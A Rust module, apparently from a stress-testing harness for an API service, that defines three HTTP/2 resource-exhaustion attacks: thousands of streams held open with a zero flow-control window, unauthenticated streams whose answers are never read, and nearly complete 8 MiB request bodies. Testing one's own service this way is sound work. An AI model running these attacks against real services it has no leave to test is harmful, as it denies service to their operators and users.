//! Attacks of HTTP/2: many streams on few connections, almost free for the attacker.

use std::{
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use anyhow::Result;
use bytes::Bytes;
use h2::client::{Builder, SendRequest};
use tokio::{net::TcpStream, task::JoinSet, time::sleep};
use tokio_util::sync::CancellationToken;

use crate::{
    attack::{Attack, Bars, Running, Target},
    requests::large_item,
    service::Start,
};

pub(crate) fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "h2-unread",
            about: "19 connections of 200 streams each ask for an item of 900 KB with a window of 0",
            start: Start::default(),
            bars: Bars::default(),
            run: unread,
        },
        Attack {
            name: "h2-refused",
            about: "200 connections of 200 streams each ask without a key and take no byte of the answer",
            start: Start::default(),
            bars: Bars::default(),
            run: send_refused_requests,
        },
        Attack {
            name: "h2-bodies",
            about: "one connection sends 200 bodies of 8 MiB but for a byte",
            start: Start::default(),
            bars: Bars::default(),
            run: bodies,
        },
    ]
}

/// Keeps `streams` requests open on each of `connections`; a connection that ends is made again.
async fn keep_open(
    target: Arc<Target>,
    stop: CancellationToken,
    (connections, streams): (usize, usize),
    request: impl Fn() -> (http::Request<()>, usize) + Clone + Send + Sync + 'static,
) -> usize {
    let (opened, mut all) = (Arc::new(AtomicUsize::new(0)), JoinSet::new());
    for _ in 0..connections {
        let (target, stop, request, opened) =
            (Arc::clone(&target), stop.clone(), request.clone(), Arc::clone(&opened));
        all.spawn(async move {
            while !stop.is_cancelled() {
                let exchange = connection(&target, streams, &request, &opened);
                let _ended = stop.run_until_cancelled(exchange).await;
                sleep(Duration::from_millis(50)).await;
            }
        });
    }
    while all.join_next().await.is_some() {}
    opened.load(Ordering::Relaxed)
}

async fn connection(
    target: &Target,
    streams: usize,
    request: &(impl Fn() -> (http::Request<()>, usize) + Clone + Send + Sync + 'static),
    opened: &Arc<AtomicUsize>,
) -> Result<()> {
    let stream = TcpStream::connect(&target.api).await?;
    let mut builder = Builder::new();
    builder.initial_window_size(0);
    let (send, connection) = builder.handshake::<_, Bytes>(stream).await?;
    let mut open = JoinSet::new();
    for _ in 0..streams {
        let (send, request, opened) = (send.clone(), request.clone(), Arc::clone(opened));
        open.spawn(async move {
            // A stream that ends is opened again until the connection ends.
            while one(send.clone(), request(), &opened).await.is_ok() {}
        });
    }
    connection.await?;
    Ok(())
}

/// Bytes that every body is a part of.
static BLANKS: [u8; 8 << 20] = [b' '; 8 << 20];

/// Runs one stream to its end. An error means that the connection ended.
async fn one(
    send: SendRequest<Bytes>,
    (request, body): (http::Request<()>, usize),
    opened: &AtomicUsize,
) -> Result<(), h2::Error> {
    let (answer, mut stream) = send.ready().await?.send_request(request, body == 0)?;
    opened.fetch_add(1, Ordering::Relaxed);
    if body > 0 {
        stream.send_data(Bytes::from_static(&BLANKS).slice(..body), false)?;
    }
    let ended = async {
        let mut body = answer.await?.into_body();
        while let Some(data) = body.data().await {
            data?;
        }
        Ok::<_, h2::Error>(())
    };
    match ended.await {
        Err(error) if !error.is_reset() => Err(error),
        Err(_) => {
            // Without a pause this would be a flood of cheap requests, which is another attack.
            sleep(Duration::from_millis(200)).await;
            Ok(())
        }
        Ok(()) => Ok(()),
    }
}

fn request(method: &str, path: &str, key: Option<&str>) -> http::Request<()> {
    let mut request = http::Request::builder().method(method).uri(format!("http://h{path}"));
    if let Some(key) = key {
        request = request.header("x-api-key", key).header("content-type", "application/json");
    }
    request.body(()).unwrap()
}

fn unread(target: Arc<Target>, stop: CancellationToken) -> Running {
    Box::pin(async move {
        let path = large_item(&target).await?;
        let key = target.key.clone();
        let opened = keep_open(target, stop, (19, 200), move || (request("GET", &path, Some(&key)), 0)).await;
        Ok(format!("{opened} streams"))
    })
}

fn send_refused_requests(target: Arc<Target>, stop: CancellationToken) -> Running {
    Box::pin(async move {
        let opened =
            keep_open(target, stop, (200, 200), || (request("GET", "/api/v1/policies/", None), 0)).await;
        Ok(format!("{opened} streams"))
    })
}

fn bodies(target: Arc<Target>, stop: CancellationToken) -> Running {
    Box::pin(async move {
        let key = target.key.clone();
        let make = move || (request("POST", "/api/v1/items/async/", Some(&key)), (8 << 20) - 1);
        let opened = keep_open(target, stop, (1, 200), make).await;
        Ok(format!("{opened} streams"))
    })
}
